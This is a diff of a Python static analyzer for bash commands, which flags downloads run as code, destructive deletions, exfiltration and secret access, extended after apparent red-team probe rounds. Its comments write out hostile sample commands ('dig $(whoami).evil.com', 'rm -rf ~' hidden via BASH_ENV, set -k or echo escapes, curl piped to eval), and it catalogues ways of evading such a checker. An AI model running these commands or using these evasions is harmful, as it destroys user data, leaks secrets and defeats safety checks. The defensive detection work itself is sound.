@@ -893,9 +893,10 @@ def _printf_text(fmt: str, args: Sequence[str]) -> str | None:
                 if precision is not None:
                     v = v[:int(precision)]
             elif conv == "b":
-                if arg and re.search(r"\\[0-7c]", arg):
-                    return None
-                v = _ansi_c(arg or "")
+                # (echo -e's escapes: \0NNN octal, \c ends all output; probe round 32)
+                v, stopped = _echo_decode(arg or "", False, bare_octal=True)
+                if stopped:
+                    return "".join(out) + v
             else:
                 if arg is not None and not re.fullmatch(r"\s*[-+]?[0-9]{1,18}\s*", arg):
                     return None   # (hex, 'c, an expression, text: not sure)
@@ -1076,6 +1077,7 @@ class _Redir:
     text: str | None = None        # here-document / here-string text when static
     dynamic_text: bool = False
     dup: bool = False
+    fetch: bool = False            # the text holds a download (<<< "$(curl URL)")
 
 
 # task runners off the safe list that run a task file of the project (gulpfile.js, Gruntfile.js,
@@ -1150,6 +1152,12 @@ def _always_succeeds(cond: str) -> bool:
     return _ALWAYS_SUCCEEDS.fullmatch(cond) is not None and "'" not in cond[:1]
 _CRITICAL_TUPLE = tuple(C.CRITICAL_FILES)  # a path that starts with none of them is none of them
 _HARMLESS_TARGETS = frozenset({"/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty"})
+# bash's builtins (found before any program by PATH, hash -p's included)
+_BASH_BUILTIN_NAMES = frozenset(
+    "alias bg bind break builtin caller cd command compgen complete compopt continue declare dirs disown echo "
+    "enable eval exec exit export false fc fg getopts hash help history jobs kill let local logout mapfile "
+    "popd printf pushd pwd read readarray readonly return set shift shopt source suspend test times trap true "
+    "type typeset ulimit umask unalias unset wait . : [".split())
 _RO_WRAPPERS = frozenset({"command", "builtin", "time", "nice", "timeout", "stdbuf", "ionice", "env", "xargs", "noglob",
                           "bash", "sh", "dash", "zsh", "ksh", "busybox", "exec", "setsid"})
 _BUILD_WRAPPERS = _RO_WRAPPERS | {"nohup", "uv", "poetry", "pipenv", "pdm", "hatch", "rye", "npm exec", "pnpm exec",
@@ -2612,6 +2620,10 @@ class _Analyzer:
         # read l < f, mapfile): expanding one carries that output as a substitution does
         # (x=$(whoami); dig $x.evil.com is dig $(whoami).evil.com)
         self.data_vars: set[str] = set()
+        # (probe round 32) variables holding what a download printed (x=$(curl URL)):
+        # their expansion is fetched text (eval "$x", bash -c "$x" run remote code)
+        self.fetch_vars: set[str] = set()
+        self.stage_fetch = False   # the command whose words are read has a download as its input
         # ...and those holding the whole environment's text (x=$(env); git commit -m "$x"
         # is git commit -m "$(env)")
         self.env_data_vars: set[str] = set()
@@ -2628,6 +2640,11 @@ class _Analyzer:
         self.git_config_files: set[str] = set()   # files include.path names in this command
         self.int_vars: set[str] = set()     # names arithmetic set to a number here ((i=0))
         self.int_attr: set[str] = set()     # names declare -i gave the integer attribute
+        self.namerefs: set[str] = set()     # names declare -n made references and the names they name
+        self.hashed: dict[str, str] = {}   # hash -p PATH NAME: NAME runs PATH
+        self.keyword = False   # set -k: NAME=VALUE words anywhere are the command's environment
+        self.xpg_echo = False  # shopt -s xpg_echo: echo decodes backslash escapes
+        self.posix_echo = False   # code sh or dash runs: its echo decodes escapes, takes only -n
         self.numeric_assigned = False       # (the last assignment's value printed by wc -l, nproc...)
         self.write_counts: dict[str, int] = {}     # path -> writes of it seen
         self._arith_chain: list[str] = []   # names being evaluated by arith_name (n=m; m=...)
@@ -2669,6 +2686,12 @@ class _Analyzer:
     def abs_paths(self, words: Iterable[_Word]) -> list[str]:
         """abs_path of each word that has one."""
         return [p for p in map(self.abs_path, words) if p]
+
+    def tilde_word(self, w: _Word) -> _Word:
+        """A word with its leading unquoted ~ expanded as bash expands it in an assignment's
+        value and a for loop's list (x=~; rm -rf "$x" is the home: probe round 32); ~+
+        and ~- are the directories as known here (tilde_expanded)."""
+        return self.tilde_expanded(w)
 
     def abs_path(self, w: _Word) -> str | None:
         if not w.exact:
@@ -2982,7 +3005,39 @@ class _Analyzer:
                             # --include/-g match names as fnmatch does: * takes a leading dot
                             self.add_read(p.rstrip("/") + "/**/." + g)
 
-    def array_from_input(self, name: str, args: list[_Word], stdin: _Stream | None) -> None:
+    def read_ifs(self, env) -> str | None:
+        """IFS as a command run with ``env`` in front sees it; None when not known."""
+        for k, w in env or ():
+            if k == "IFS":
+                return w.value.translate(_UNMAP) if w is not None and w.exact else None
+        if "IFS" in self.assigned:
+            return self.vars["IFS"].translate(_UNMAP) if "IFS" in self.vars else None
+        return " \t\n"
+
+    def read_fields(self, text: str, n: int, env) -> list[str] | None:
+        """The values read gives its ``n`` names from one line of known text: split on IFS
+        (unset: blanks), the last name takes the rest; None when IFS is not known here or
+        holds both blanks and other characters."""
+        ifs = self.read_ifs(env)
+        if ifs is None:
+            return None
+        text = text.rstrip("\n")
+        if not ifs:
+            return [text] + [""] * (n - 1)
+        blanks = "".join(ch for ch in ifs if ch in " \t\n")
+        if blanks and blanks != ifs:
+            return None
+        if blanks:
+            text = text.strip(blanks)
+            parts = (re.split("[" + re.escape(ifs) + "]+", text, maxsplit=n - 1) if n > 1 else [text]) if text else []
+        else:
+            parts = (re.split("[" + re.escape(ifs) + "]", text, maxsplit=n - 1) if n > 1 else [text]) if text else []
+            if len(parts) == n and parts[-1] and parts[-1][-1] in ifs \
+                    and not any(ch in ifs for ch in parts[-1][:-1]):
+                parts[-1] = parts[-1][:-1]   # (one trailing delimiter ends the last field)
+        return parts + [""] * (n - len(parts))
+
+    def array_from_input(self, name: str, args: list[_Word], stdin: _Stream | None, env=None) -> None:
         """read -a NAME / mapfile -t NAME given known text (<<< "rm -rf /"): NAME's
         elements are its words (read, first line) or its lines (mapfile)."""
         if stdin is None or stdin.text is None or name not in ("read", "mapfile", "readarray") \
@@ -3014,7 +3069,18 @@ class _Analyzer:
             if "-t" not in vals:
                 items = [x + "\n" for x in items]
         else:
-            items = text.split("\n", 1)[0].split()
+            line, ifs = text.split("\n", 1)[0], self.read_ifs(env)
+            if ifs is None or (ifs.strip(" \t\n") and ifs.strip(" \t\n") != ifs) or "\\" in line:
+                self.arrays.pop(target, None)   # (IFS unknown, or blanks and others mixed)
+                return
+            if not ifs:
+                items = [line]
+            elif ifs.strip(" \t\n"):   # (IFS=, read -ra a <<< "rm,-rf,/": split on each)
+                items = re.split("[" + re.escape(ifs) + "]", line)
+                if items and items[-1] == "":
+                    items.pop()
+            else:
+                items = line.split()
         self.arrays[target] = dict(enumerate(items))
 
     def tree_read(self, p: str) -> None:
@@ -3430,7 +3496,7 @@ class _Analyzer:
                 body = child
             elif has_in and body is None and child.is_named and t != "comment":
                 before = len(self.commands)
-                values.extend(self.words(child, ctx))
+                values.extend(map(self.tilde_word, self.words(child, ctx)))
                 numeric_words.append(self.numeric_value(child, before))
             elif t == "ERROR":
                 raise _Unparseable(ERR_SYNTAX)
@@ -3755,12 +3821,13 @@ class _Analyzer:
             words = [self.word(c, ctx) for c in node.children if c.type in _WORD_TYPES]
             w = words[0] if words else _static("")
             redirs.append(_Redir(op="<<<", target=None, fd=fd, writes=False,
-                                 text=(w.value + "\n") if w.exact else None, dynamic_text=not w.exact))
+                                 text=(w.value + "\n") if w.exact else None, dynamic_text=not w.exact,
+                                 fetch=w.fetch))
             return
         # heredoc
         quoted = False
         body_text: str | None = ""
-        dynamic = False
+        dynamic = body_fetch = False
         delimiter = None
         op = "<<"
         for child in node.children:
@@ -3778,7 +3845,9 @@ class _Analyzer:
                 # the delimiter bash waits for: the word after quote removal ($'EOF' too)
                 delimiter = re.sub(r"\$(?=['\"])", "", raw).replace("'", "").replace('"', "").replace("\\", "")
             elif ct == "heredoc_body":
+                fetch_mark = self.n_fetch
                 body_text, dynamic = self.heredoc_body(child, ctx, quoted)
+                body_fetch = self.n_fetch > fetch_mark   # (<<EOF with $(curl URL) in it)
                 if op == "<<-" and body_text is not None:
                     body_text = "\n".join(line.lstrip("\t") for line in body_text.split("\n"))
             elif ct == "heredoc_end":
@@ -3797,7 +3866,8 @@ class _Analyzer:
                 raise _Unparseable(ERR_SYNTAX)
             elif child.is_named:
                 continuations.append(("stmt", child))
-        redirs.append(_Redir(op=op, target=None, fd=fd, writes=False, text=None if dynamic else body_text, dynamic_text=dynamic))
+        redirs.append(_Redir(op=op, target=None, fd=fd, writes=False, text=None if dynamic else body_text, dynamic_text=dynamic,
+                             fetch=body_fetch))
 
     def heredoc_body(self, node, ctx: _Ctx, quoted: bool) -> tuple[str | None, bool]:
         raw = self._t(node)
@@ -3810,9 +3880,39 @@ class _Analyzer:
         # An unquoted body is expanded as a double-quoted string is. The grammar's own
         # reading of it misses expansions (one after leading blanks on a line, or in a
         # <<- body, comes back as plain text), so the body is read again, exactly as
-        # the double-quoted string it stands for.
-        self.dq_code(_heredoc_as_dq(raw), ctx)
+        # the double-quoted string it stands for; when every expansion in it is known
+        # (cat <<EOF | bash with $(echo rm) -rf ~ in it), so is the text bash is given.
+        inner = _heredoc_as_dq(raw)
+        if "`" not in inner:
+            w = self.dq_value(inner, ctx)
+            if w is not None:
+                return (w.value, False) if w.exact and not w.guess else (None, True)
+        self.dq_code(inner, ctx)
         return None, True
+
+    def dq_value(self, inner: str, ctx: _Ctx) -> _Word | None:
+        """The double-quoted string ``"inner"`` as bash expands it (its substitutions run
+        and judged); None when the grammar does not read it as one string."""
+        if ctx.depth + 1 > MAX_DEPTH:
+            raise _Unparseable(ERR_TOO_DEEP)
+        text, tree = _parse_lines(': "' + inner + '"')
+        root = tree.root_node
+        if root.has_error or root.named_child_count != 1 or root.named_children[0].type != "command":
+            return None
+        args = [c for c in root.named_children[0].named_children if c.type != "command_name"]
+        if len(args) != 1 or args[0].type != "string":
+            return None
+        saved_cwd, saved_vars, saved_src = self.dir_state(), dict(self.vars), self._src
+        self._src = text if text.isascii() else None
+        try:
+            return self.word(args[0], ctx.but(in_subst=True, piped=False, background=False, depth=ctx.depth + 1))
+        except _Unparseable:
+            self.mark_dynamic()
+            return _Word(value=inner, dynamic=True, exact=False)
+        finally:
+            self._src = saved_src
+            self.restore_dir(saved_cwd)
+            self.vars = saved_vars
 
     def dq_code(self, inner: str, ctx: _Ctx) -> None:
         """Run the expansions of the double-quoted string ``"inner"`` (nothing else)."""
@@ -3840,7 +3940,7 @@ class _Analyzer:
         for r in redirs:
             if r.op in ("<<", "<<-", "<<<"):
                 if r.fd in (None, 0):   # (cmd 3<<EOF: another descriptor's text)
-                    stdin = _Stream(text=r.text)
+                    stdin = _Stream(text=r.text, fetch=r.fetch)
                 continue
             if r.dup:
                 continue
@@ -4111,9 +4211,7 @@ class _Analyzer:
                 self.arith(child, ctx)
             elif t in _WORD_TYPES:
                 before = len(self.commands)
-                value = self.word(child, ctx)
-                if value.tilde:
-                    value = self.tilde_expanded(value)   # (F=~/x: bash expands it here)
+                value = self.tilde_expanded(self.word(child, ctx))   # (F=~/x, x=~: bash expands it here)
                 self.numeric_assigned = self.numeric_value(child, before)
             elif t == "array":
                 for el in child.children:
@@ -4121,7 +4219,10 @@ class _Analyzer:
                     text = self._t(el)
                     if text.startswith("[") and "]=" in text:
                         self.arith_text(text[1:text.index("]=")], ctx)
-                elements = [self.word(el, ctx) for el in child.children if el.type in _WORD_TYPES]
+                # (b=($a): an unquoted expansion is split on IFS into elements, as bash does)
+                elements = [w for el in child.children if el.type in _WORD_TYPES
+                            for w in (self.words(el, ctx) if el.type in ("simple_expansion", "expansion")
+                                      else [self.word(el, ctx)])]
                 if len(elements) == 1 and elements[0].exact:
                     # a=(/): one element, known: "${a[@]}" and "$a" are that word
                     value = _Word(value=elements[0].value, dynamic=True, exact=True)
@@ -4134,6 +4235,8 @@ class _Analyzer:
             # (a value made of run-time output, not known here: data_vars)
             carried = self.n_out_subst > out_mark and not (value is not None and value.exact)
             (self.data_vars.add if carried else self.data_vars.discard)(name.split("[", 1)[0])
+            fetched = value is not None and value.fetch or any(e.fetch for e in elements or ())
+            (self.fetch_vars.add if fetched else self.fetch_vars.discard)(name.split("[", 1)[0])
             env = self.n_env_subst > env_mark
             (self.env_data_vars.add if env else self.env_data_vars.discard)(name.split("[", 1)[0])
         if name.split("[", 1)[0] in _PROMPT_VARS:
@@ -4278,9 +4381,30 @@ class _Analyzer:
                     self.vars[name] = w.value
                 else:
                     self.vars.pop(name, None)
+                if argv and argv[0].value in ("declare", "typeset", "local") and any(
+                        a.value.startswith("-") and "n" in a.value[1:] for a in argv[1:]):
+                    # declare -n r=HOME: $r is $HOME, r=/ writes HOME (a name reference,
+                    # never the text "HOME"): both names only known at run time from here
+                    target = w.value if w is not None and w.exact and _VAR_NAME.fullmatch(w.value) else None
+                    if target is None or target in self.namerefs or name in self.namerefs:
+                        self.vars_unknown(self.namerefs | {name})
+                        if target is None:
+                            self.mark_dynamic()   # (a reference to a name only known at run time)
+                    self.namerefs.update((name, target or name))
+                    self.vars.pop(name, None)
+                    if target is not None and target in self.vars:
+                        self.vars[name] = self.vars[target]   # ($r is HOME's value, as it is now)
+                elif self.namerefs and name in self.namerefs:
+                    self.vars_unknown(self.namerefs)
                 argv.append(_Word(value=self._t(child), dynamic=w is None or w.dynamic, exact=w is not None and w.exact))
             elif t == "variable_name":
                 argv.append(_static(self._t(child)))
+                if argv[0].value in ("declare", "typeset", "local") and any(
+                        a.value.startswith("-") and "n" in a.value[1:] for a in argv[1:-1]):
+                    # declare -n r; r=HOME: its first assignment names what it refers to
+                    self.namerefs.add(argv[-1].value)
+                    self.vars.pop(argv[-1].value, None)
+                    self.mark_dynamic()
             elif t in _WORD_TYPES:
                 more = self.words(child, ctx)   # export {a,b}=x: brace-expanded, as bash does
                 argv.extend(more)
@@ -4455,6 +4579,8 @@ class _Analyzer:
             name = self._t(node)[1:]
             if name in self.vars:
                 return _Word(value=self.vars[name], dynamic=True, exact=True, bare_subst=True)
+            if name in self.fetch_vars:
+                self.n_fetch += 1   # (x=$(curl URL); eval "$x": the download, run)
             if name in self.data_vars:
                 self.n_out_subst += 1   # (run-time output, as the substitution it came from)
             if name in self.env_data_vars:
@@ -4462,7 +4588,7 @@ class _Analyzer:
             if name not in self.assigned and C.secret_env_name(name):
                 self.env_refs.append(name)
             return _Word(value=self._t(node), dynamic=True, exact=False, bare_subst=True,
-                         lister=self.lister_vars.get(name))
+                         lister=self.lister_vars.get(name), fetch=name in self.fetch_vars)
         if t == "expansion":
             return self.expansion(node, ctx)
         if t == "command_substitution":
@@ -4514,7 +4640,8 @@ class _Analyzer:
                 # bash -c, never "echo arm -rf /"); it is literal text, as string_content is
                 parts.append(_unescape_dq(self._gap(node, prev_end, child.start_byte)))
             prev_end = child.end_byte
-            if t == '"' or t == '$"':
+            if t == '"' or t == '$"' or (t == "$" and i == 0 and node.type == "translated_string"):
+                # ($"rm": bash's locale quoting, the text itself when no catalog translates it)
                 if i and i == last and child.end_byte - child.start_byte > 1:
                     # blanks before the closing quote that no string_content holds: the
                     # grammar's token is ' "' (a" "y/f is "a y/f", never "ay/f"; "x  ")
@@ -4559,6 +4686,8 @@ class _Analyzer:
                     w = self.evaluated_output(c, ctx)
                 else:
                     w = self.word(c, ctx)
+                    if default is None and w.tilde and (node.parent is None or node.parent.type != "string"):
+                        w = self.tilde_word(w)   # (${X:-~/.config}: bash expands the ~ unquoted)
                 default = w if default is None else _Word(value=default.value + w.value, dynamic=True,
                                                          exact=default.exact and w.exact, fetch=default.fetch or w.fetch)
             elif c.type == "subscript":
@@ -4581,6 +4710,8 @@ class _Analyzer:
                     self.dq_code(_heredoc_as_dq(text), ctx)
         if named and named[0].type in ("variable_name", "subscript"):
             base = self._t(named[0]).split("[", 1)[0]
+            if base in self.fetch_vars and base not in self.vars:
+                self.n_fetch += 1
             if base in self.data_vars and base not in self.vars:
                 self.n_out_subst += 1   # ${x}, ${a[@]} of run-time output (data_vars)
             if base in self.env_data_vars:
@@ -4612,6 +4743,9 @@ class _Analyzer:
             target = self.vars.get(self._t(names[0]), "")
             if C.secret_env_name(target) and target not in self.assigned:
                 self.env_refs.append(target)
+            if len(named) == 1 and target in self.vars and target not in self.namerefs:
+                # y=HOME; rm -rf ${!y}: the value of the variable y names (probe round 32)
+                return _Word(value=self.vars[target], dynamic=True, exact=True, bare_subst=True, fetch=fetch)
         if len(named) == 1 and subs and not ops:
             sub_name = subs[0].child_by_field_name("name")
             index = subs[0].child_by_field_name("index")
@@ -4730,6 +4864,7 @@ class _Analyzer:
         saved_cwd, saved_vars = self.dir_state(), dict(self.vars)
         n_cmds = len(self.commands)
         first = node.children[0].type if node.children else ""
+        stage_fetch = self.stage_fetch
         if first == "`":
             # backticks: the text is re-read by the shell after \\, \` and \$ are unescaped
             raw = self._t(node)[1:-1]
@@ -4737,9 +4872,17 @@ class _Analyzer:
             out = self.parse_text(text, inner)
         else:
             out = self.seq(node, inner, None)
+        self.stage_fetch = stage_fetch
         self.restore_dir(saved_cwd)
         self.vars = saved_vars
         fetch = self.n_fetch > before
+        if stage_fetch and not fetch and (_STDIN_SUBST.fullmatch(self._t(node)) or any(
+                c.name in _STDIN_COPIERS and all(a == "-" or a.startswith("-") and len(a) > 1 for a in c.argv[1:])
+                for c in self.commands[n_cmds:n_cmds + 1])):
+            # curl URL | eval "$(cat)", | bash -c "$(< /dev/stdin)": the substitution prints
+            # the command's input, the download (probe round 32)
+            fetch = True
+            self.n_fetch += 1
         if out.env and not out.history:
             self.n_env_subst += 1
         if out.text is None:
@@ -4911,6 +5054,8 @@ class _Analyzer:
 
     def command(self, node, ctx: _Ctx, redirs: list[_Redir], stdin: _Stream | None, extra: list[_Word] | None = None) -> _Stream:
         words: list[_Word] = []
+        # (a command substitution in its words reads the same input: curl URL | eval "$(cat)")
+        self.stage_fetch = stdin is not None and stdin.fetch
         assigns: list[tuple[str, _Word | None]] = []
         redirs = list(redirs)
         extra_words: list[_Word] = list(extra) if extra else []
@@ -5168,6 +5313,13 @@ class _Analyzer:
         no meaning (PATH, IFS, PS4, BASH_ENV... change what later commands do). ``data``:
         whether the value is run-time output (data_vars; None: as assignment() found)."""
         self.assigned.add(name)
+        if self.namerefs and name in self.namerefs:
+            self.vars_unknown(self.namerefs)   # (through a name reference: w is not the value)
+            w = None
+        if w is not None and w.fetch:
+            self.fetch_vars.add(name)
+        elif self.fetch_vars:
+            self.fetch_vars.discard(name)
         if data is not None:
             (self.data_vars.add if data else self.data_vars.discard)(name)
         self.glob_vars.discard(name)
@@ -5194,6 +5346,11 @@ class _Analyzer:
             self.not_plain()   # (export NODE_ENV=test: a harmless setting stays plain)
             self.changes_env = True
 
+    def vars_unknown(self, names) -> None:
+        for n in names:
+            self.vars.pop(n, None)
+            self.arrays.pop(n, None)
+
     def mark_dynamic(self) -> None:
         self.dynamic = True
         self.read_only = False
@@ -5216,6 +5373,22 @@ class _Analyzer:
 
     def unwrap(self, argv: list[_Word], assigns: list, redirs: list[_Redir], ctx: _Ctx,
                stdin: _Stream | None, text: str) -> _Stream:
+        if argv and not argv[0].exact and _SHELL_VAR_WORD.fullmatch(argv[0].value) and argv[0].value.strip("${}") not in self.assigned:
+            # $SHELL, "$BASH", ${SHELL}, $0 (bash -c's own name): the user's shell, a shell
+            # whose code and input are read as bash's (curl URL | $SHELL; probe round 32);
+            # which one, only known at run time: also judged as a program of any name
+            self.mark_dynamic()
+            self.unwrap([_Word(value="bash", dynamic=True, exact=True)] + argv[1:], assigns, redirs, ctx, stdin, text)
+        if self.keyword and len(argv) > 1:
+            # under set -k, a NAME=VALUE word after the name is an assignment in front of it
+            moved = [w for w in argv[1:] if w.exact and _ASSIGNMENT.fullmatch(w.value)]
+            if moved:
+                assigns = list(assigns) + [(w.value.split("=", 1)[0], _Word(value=w.value.split("=", 1)[1],
+                                                                               dynamic=w.dynamic)) for w in moved]
+                argv = [argv[0]] + [w for w in argv[1:] if not (w.exact and _ASSIGNMENT.fullmatch(w.value))]
+        if self.hashed and argv and argv[0].exact and argv[0].value in self.hashed \
+                and argv[0].value not in self.func_bodies:
+            argv = [_Word(value=self.hashed[argv[0].value], dynamic=True, exact=True)] + argv[1:]
         if argv and not ctx.wrappers:
             # the common case: no wrapper around, none in front: recorded as it stands
             w0 = argv[0]
@@ -5494,7 +5667,18 @@ class _Analyzer:
                 break
             if name in C.SHELLS and not (len(args) == 1 and vals[0] == "--version" and name != "busybox"):
                 # (bash --version prints and exits: recorded as the version query it is)
-                return self.shell(name, argv, env, redirs, ctx, wrappers, written, stdin, text)
+                keyword = self.keyword
+                if any(w.exact and re.fullmatch(r"-[a-zA-Z]*k[a-zA-Z]*", w.value) for w in args[:4]):
+                    self.keyword = True   # (bash -k -c CODE: set -k inside)
+                xpg, posix_echo = self.xpg_echo, self.posix_echo
+                self.posix_echo = name in ("sh", "dash", "ash", "posh")
+                if any(w.value == "xpg_echo" for w in args[:6]) or any(
+                        n == "BASHOPTS" and (w is None or not w.exact or "xpg_echo" in w.value) for n, w in env):
+                    self.xpg_echo = True   # (bash -O xpg_echo -c CODE, BASHOPTS=xpg_echo)
+                try:
+                    return self.shell(name, argv, env, redirs, ctx, wrappers, written, stdin, text)
+                finally:
+                    self.keyword, self.xpg_echo, self.posix_echo = keyword, xpg, posix_echo
             if name in ("eval",):
                 if not args:
                     break
@@ -5522,7 +5706,9 @@ class _Analyzer:
                         self.mark_dynamic()   # -tC in a cluster: a callback we do not place
                     return _Stream()
             if name in ("source", "."):
-                self.source(args, ctx, text, stdin, wrappers, written)
+                # (. <(echo 'rm -rf "$1"') ~: its words after the file are its $1...)
+                self.with_positional(args, lambda: self.source(args, ctx, text, stdin, wrappers, written),
+                                     same_shell=True)
                 self.read_only = False
                 self.file_command = False
                 self.file_or_build = False
@@ -6167,6 +6353,11 @@ class _Analyzer:
         for n, w in env:
             if n in ("BASH_ENV", "ENV") and w is not None:
                 self.stream_program(w, text)   # BASH_ENV=<(echo 'rm -rf ~') bash -c true
+                if w.procsub:
+                    self.stream_script(w, inner_ctx, name, written)   # (its known text, read as code)
+                elif w.exact and _STDIN_PATH.fullmatch(w.value) and stdin is not None and stdin.text is not None:
+                    # BASH_ENV=/dev/stdin bash -c true <<< 'rm -rf ~': the start-up file is the input
+                    self.stream_script(_Word(value=w.value, stream=stdin.text), inner_ctx, name, written)
                 # a start-up file this command wrote (echo 'rm -rf ~' > e.sh; BASH_ENV=e.sh
                 # bash -c ls) runs first: read as the code it is
                 self.written_script(w, inner_ctx, name, written)
@@ -6200,22 +6391,50 @@ class _Analyzer:
                 self.assigned = saved_assigned
                 self.positional_cut = saved_cut
             return _Stream()
+        # (probe round 32) a script's words after it are its $1...: bash <(echo 'rm -rf
+        # "$1"') ~, sh -s ~ <<< 'rm -rf "$1"', bash x.sh ~ after x.sh was written
         if rest and not s_flag:
             script = rest[0]
             if script.procsub:
                 if script.fetch:
                     self.cat(PIPE_TO_SHELL, text)
                 self.mark_dynamic()
-                self.stream_script(script, inner_ctx, name, written)
+                self.with_positional(rest, lambda: self.stream_script(script, inner_ctx, name, written))
                 return self.record(argv, env, redirs, inner_ctx, text, False, stdin)
             if script.exact and (script.value == "-" or _STDIN_PATH.fullmatch(script.value)):
                 # (/dev/stdin, /dev/fd/0, /dev/fd/3 with 3< <(curl ...): a stream, not a file)
-                return self.stdin_code(name, argv, env, redirs, inner_ctx, written, stdin, text, shell=True)
+                return self.with_positional([_static(name)] + rest[1:], lambda: self.stdin_code(
+                    name, argv, env, redirs, inner_ctx, written, stdin, text, shell=True))
             # runs a script file: arbitrary code, never read-only
             self.record(argv, env, redirs, inner_ctx, text, False, stdin, runs_code=True)
-            self.written_script(script, inner_ctx, name, written)
+            self.with_positional(rest, lambda: self.written_script(script, inner_ctx, name, written))
             return _Stream()
-        return self.stdin_code(name, argv, env, redirs, inner_ctx, written, stdin, text, shell=True)
+        return self.with_positional([_static(name)] + rest, lambda: self.stdin_code(
+            name, argv, env, redirs, inner_ctx, written, stdin, text, shell=True))
+
+    def with_positional(self, words: list[_Word], run, *, same_shell: bool = False):
+        """run() with $0, $1... set to ``words`` (as a script run with them sees them);
+        after it, the caller's variables are back (``same_shell``, source's: only its
+        positional parameters, what the script set stays set)."""
+        if len(words) < 2:
+            return run()
+        saved, saved_assigned, saved_cut = dict(self.vars), set(self.assigned), self.positional_cut
+        for k in [k for k in self.vars if k.isdigit()]:
+            del self.vars[k]
+        self.positional_cut = len(words) > _MAX_POSITIONAL + 1
+        for j, w in enumerate(words[:_MAX_POSITIONAL + 1]):
+            if w.exact:
+                self.vars[str(j)] = self.tilde_word(w).value
+        try:
+            return run()
+        finally:
+            if same_shell:
+                for k in [k for k in self.vars if k.isdigit()]:
+                    del self.vars[k]
+                self.vars.update((k, v) for k, v in saved.items() if k.isdigit())
+                self.positional_cut = saved_cut
+            else:
+                self.vars, self.assigned, self.positional_cut = saved, saved_assigned, saved_cut
 
     def note_script(self, words: list[_Word], redirs: list[_Redir], stdin: _Stream | None,
                     piped_in: bool = True) -> None:
@@ -6234,14 +6453,16 @@ class _Analyzer:
         elif name == "echo":
             # (probe round 30, redteam30: echo -e 'all:\n\trm -rf ~' > Makefile wrote the
             # recipe the escapes make, as the stream's text has it)
-            i, interpret = 0, False
-            while i < len(vals) and re.fullmatch(r"-[neE]+", vals[i]):
-                interpret = interpret or "e" in vals[i]
+            i, interpret, newline = 0, self.xpg_echo or self.posix_echo, True
+            while i < len(vals) and re.fullmatch(r"-n" if self.posix_echo else r"-[neE]+", vals[i]):
+                newline = newline and "n" not in vals[i]
+                interpret = _echo_escapes(interpret, vals[i])
                 i += 1
             body = " ".join(vals[i:])
-            if interpret and re.search(r"\\[0-7c]", body):
-                return   # (echo's \0NNN and \c: not modelled, as for the stream)
-            body = (_ansi_c(body) if interpret else body) + "\n"
+            if interpret:
+                body, stopped = _echo_decode(body, self.posix_echo)
+                newline = newline and not stopped
+            body += "\n" if newline else ""
         elif name == "printf" and vals[vals[:1] == ["--"]:] and not vals[vals[:1] == ["--"]:][0].startswith("-"):
             # (probe round 32, redteam32: printf '%s -rf ~' rm > x.sh; sh x.sh wrote the
             # format and its argument apart) what printf prints, where it is sure
@@ -6622,6 +6843,15 @@ class _Analyzer:
                 self.env_refs.append(hit)
         if name == "set" and not dynamic_name:
             self.set_positional(argv[1:])
+            for k, w in enumerate(argv[1:]):
+                v = w.value
+                if v == "--" or not v[:1] in ("-", "+") or not w.exact:
+                    break
+                # set -k / set -o keyword: NAME=VALUE anywhere among a command's words is
+                # put in its environment (git log GIT_PAGER='rm -rf ~'; probe round 32)
+                if (v[1:] == "o" and argv[k + 2:k + 3] and argv[k + 2].value == "keyword") \
+                        or (not v.startswith("--") and "k" in v[1:] and "o" not in v[1:]):
+                    self.keyword = v[0] == "-"
         if name == "shift" and not dynamic_name:
             self.shift_positional(argv[1:])
         if name in _DECLARERS and not dynamic_name and not self.in_declaration:
@@ -6646,7 +6876,10 @@ class _Analyzer:
             self.mark_dynamic()
         elif name == "jobs" and any(w.value.startswith("-") and "x" in w.value or not w.exact for w in argv[1:]):
             self.mark_dynamic()   # jobs -x COMMAND ARGS: runs the command (not analysed as one)
-        elif name == "shopt" and any(not w.exact or "lastpipe" in w.value for w in argv[1:]):
+        if name == "shopt" and any(not w.exact or w.value == "xpg_echo" for w in argv[1:]):
+            # shopt -s xpg_echo: echo decodes \x72, \0162 as echo -e does (probe round 32)
+            self.xpg_echo = not any(w.exact and w.value.startswith("-") and "u" in w.value for w in argv[1:])
+        if name == "shopt" and any(not w.exact or "lastpipe" in w.value for w in argv[1:]):
             # the last stage of a pipeline then runs in this shell (bash -c has no job
             # control): true | cd /; rm -rf ./* runs in /
             self.lastpipe = True
@@ -6668,13 +6901,16 @@ class _Analyzer:
                                         and len(argv) - 1 == len(targets) + sum(1 for w in argv[1:]
                                                                                 if w.value == "-r")) else None
                 # read -r X <<< /: one name, one line of known text, no loop around it: X is
-                # that line, trimmed (probe round 29)
-                line = stdin.text.strip(" \t\n") if (
-                    name == "read" and stdin is not None and stdin.text is not None and len(targets) == 1
+                # that line, trimmed (probe round 29); read -r a b c <<< "rm -rf ~": each
+                # name a field, the last the rest of the line, split on IFS as bash does
+                # (its default, or one written in front or before; probe round 32)
+                fields = self.read_fields(stdin.text, len(targets), env) if (
+                    name == "read" and stdin is not None and stdin.text is not None and targets
                     and len(argv) - 1 == len(targets) + sum(1 for w in argv[1:] if w.value == "-r")
                     and "\n" not in stdin.text.strip(" \t\n") and "\\" not in stdin.text
-                    and ctx.func is None and "IFS" not in self.assigned and not any(n == "IFS" for n, _ in env or ())) else None
+                    and ctx.func is None) else None
                 for w in argv[1:]:
+                    line = fields[targets.index(w)] if fields is not None and w in targets else None
                     if _VAR_NAME.fullmatch(w.value) and w.value in self.int_attr \
                             and not (line is not None and _INTEGER.fullmatch(line)):
                         # declare -i n; read n < f: an integer's value is arithmetic, so the
@@ -6685,7 +6921,15 @@ class _Analyzer:
                                      else _Word(value="", dynamic=True, exact=False, lister=names)
                                      if names is not None else None, loop=name == "read", data=line is None)
                         self.arrays.pop(w.value, None)
-                self.array_from_input(name, argv[1:], stdin)
+                        if stdin is not None and stdin.fetch:
+                            self.fetch_vars.add(w.value)   # (read -r x < <(curl URL): a download)
+                self.array_from_input(name, argv[1:], stdin, env)
+                if name == "printf" and len(argv) > 3 and argv[1].value == "-v" and _VAR_NAME.fullmatch(argv[2].value) \
+                        and all(w.exact for w in argv[1:]):
+                    # printf -v d '%s' /: d is the text printf makes (probe round 32)
+                    made = _printf_text(argv[3].value, [w.value for w in argv[4:]])
+                    if made is not None:
+                        self.set_var(argv[2].value, _Word(value=made, dynamic=True, exact=True), data=False)
         if self.language is None and (name in C.LANGUAGE_NAMES or name.startswith("python")):
             lang = C.language_of(name, vals)
             if lang:
@@ -7528,16 +7772,17 @@ class _Analyzer:
         if name == "echo":
             i = 0
             newline = True
-            interpret = False
